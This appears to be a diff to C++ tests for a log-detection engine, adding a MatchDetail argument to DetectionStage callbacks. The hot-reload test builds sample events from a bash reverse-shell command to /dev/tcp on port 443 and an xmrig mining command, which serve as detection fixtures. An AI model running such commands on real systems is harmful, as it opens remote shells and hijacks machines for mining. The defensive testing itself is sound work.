@@ -96,7 +96,8 @@ TEST_F(RuleKindTest, YamlRulesRunOnTheSampleLogAndReportBadOnes) {
   holder.publish(b.rule_set);
   std::map<std::string, std::set<std::string>> hits;
   DetectionStage stage(
-      holder, [&](const RuleSet& set, uint32_t rule, std::span<const Event* const> events) {
+      holder, [&](const RuleSet& set, uint32_t rule, std::span<const Event* const> events,
+                  const MatchDetail*) {
         FieldView v;
         events[0]->get(fields::kEventId, v);
         hits[set.rules[rule].id].insert(std::string(v.s));
@@ -143,7 +144,9 @@ TEST_F(RuleKindTest, HotReloadPicksUpNewModulesAndKeepsTheLastGoodOne) {
 
   size_t matches = 0;
   DetectionStage stage(holder,
-                       [&](const RuleSet&, uint32_t, std::span<const Event* const>) { ++matches; });
+                       [&](const RuleSet&, uint32_t, std::span<const Event* const>, const MatchDetail*) {
+                         ++matches;
+                       });
   Event shell = process_event("s", "exec", "bash", "bash -i >& /dev/tcp/10.9.8.7/443 0>&1");
   Event miner = process_event("m", "exec", "xmrig", "xmrig -o stratum+tcp://pool.example:3333");
   stage.process(shell);
